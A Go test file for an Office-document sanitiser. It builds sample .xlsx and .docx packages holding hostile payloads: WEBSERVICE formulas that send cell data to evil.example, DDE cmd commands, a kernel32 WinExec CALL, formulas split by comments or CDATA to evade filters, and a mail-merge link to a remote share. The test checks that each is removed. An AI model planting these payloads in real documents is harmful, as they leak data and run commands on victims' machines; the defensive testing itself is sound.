package ooxml

import (
	"strings"
	"testing"
)

// TestFormulasOutsideCells: a formula is judged wherever Excel evaluates
// one — cells, defined names, conditional formats and data validations
// (x14 forms too) — with its text joined across comments and CDATA, and
// a mail merge's connection to outside data goes with its settings.
func TestFormulasOutsideCells(t *testing.T) {
	const ns = `xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" `
	data := pkg(t, map[string]string{
		"[Content_Types].xml": ctHead + `<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`,
		"_rels/.rels":         `<Relationships ` + relNS + `>` + relEl("rId1", "officeDocument", "xl/workbook.xml") + `</Relationships>`,
		"xl/workbook.xml": `<workbook ` + ns + rNS + `><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets><definedNames>` +
			`<definedName name="leak">WEBSERVICE("http://evil.example/?"&amp;Sheet1!$B$1)</definedName>` +
			`<definedName name="calc2">cmd|'/c calc'!A0</definedName>` +
			`<definedName name="calc3">cmd|calc!A0</definedName>` +
			`<definedName name="split">WEB<!-- x -->SERVICE("http://evil.example/c")</definedName>` +
			`<definedName name="cdata"><![CDATA[RT]]>D("x",,"y")</definedName>` +
			`<definedName name="range">Sheet1!$A$1:$B$3</definedName></definedNames><calcPr fullCalcOnLoad="1"/></workbook>`,
		"xl/_rels/workbook.xml.rels": `<Relationships ` + relNS + `>` + relEl("rId1", "worksheet", "worksheets/sheet1.xml") + `</Relationships>`,
		"xl/worksheets/sheet1.xml": `<worksheet ` + ns + rNS + ` xmlns:x14="x14" xmlns:xm="xm"><sheetData><row r="1">` +
			`<c r="A1"><f>leak&amp;calc2</f><v>0</v></c><c r="B1" t="str"><f>A1&amp;"|"&amp;C1</f><v>x|y</v></c></row></sheetData>` +
			`<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>WEBSERVICE("http://evil.example/cf")="1"</formula></cfRule>` +
			`<cfRule type="expression" priority="2"><formula>A1&gt;2</formula></cfRule></conditionalFormatting>` +
			`<dataValidations count="2"><dataValidation type="custom" sqref="B1"><formula1>LEN(WEBSERVICE("http://evil.example/dv"))</formula1></dataValidation>` +
			`<dataValidation type="whole" sqref="C1"><formula1>1</formula1><formula2>10</formula2></dataValidation></dataValidations>` +
			`<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}"><x14:dataValidations count="1"><x14:dataValidation type="list">` +
			`<x14:formula1><xm:f>CALL("kernel32","WinExec","JCJ","calc",0)</xm:f></x14:formula1><xm:sqref>D1</xm:sqref></x14:dataValidation></x14:dataValidations></ext></extLst></worksheet>`,
	})
	parts, v := disarm(t, data, "a.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
	checkPackage(t, parts)
	all := parts["xl/workbook.xml"] + parts["xl/worksheets/sheet1.xml"]
	for _, gone := range []string{"WEBSERVICE", "cmd|", "evil.example", "RT]]>D", "CALL("} {
		if strings.Contains(all, gone) {
			t.Errorf("%q survived:\n%s", gone, all)
		}
	}
	for _, kept := range []string{`<definedName name="range">Sheet1!$A$1:$B$3</definedName>`, `<formula>A1&gt;2</formula>`,
		`<formula1>1</formula1>`, `<f>A1&amp;"|"&amp;C1</f>`, "<v>0</v>"} {
		if !strings.Contains(all, kept) {
			t.Errorf("%q was removed:\n%s", kept, all)
		}
	}
	if got := v.EN(); !strings.Contains(got, whatFormula) || !strings.Contains(got, whatDDE) {
		t.Errorf("removed: %s", got)
	}

	doc := pkg(t, map[string]string{
		"[Content_Types].xml": ctHead + `<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>` +
			`<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/></Types>`,
		"_rels/.rels":                  `<Relationships ` + relNS + `>` + relEl("rId1", "officeDocument", "word/document.xml") + `</Relationships>`,
		"word/document.xml":            `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>本文</w:t></w:r></w:p></w:body></w:document>`,
		"word/_rels/document.xml.rels": `<Relationships ` + relNS + `>` + relEl("rId1", "settings", "settings.xml") + `</Relationships>`,
		"word/settings.xml": `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:mailMerge><w:mainDocumentType w:val="formLetters"/>` +
			`<w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\evil.example\s\db.xlsx"/><w:query w:val="SELECT * FROM x"/></w:mailMerge><w:zoom w:percent="100"/></w:settings>`,
	})
	parts, _ = disarm(t, doc, "a.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
	if s := parts["word/settings.xml"]; strings.Contains(s, "mailMerge") || strings.Contains(s, "evil") || !strings.Contains(s, "w:zoom") {
		t.Errorf("settings: %s", s)
	}
}
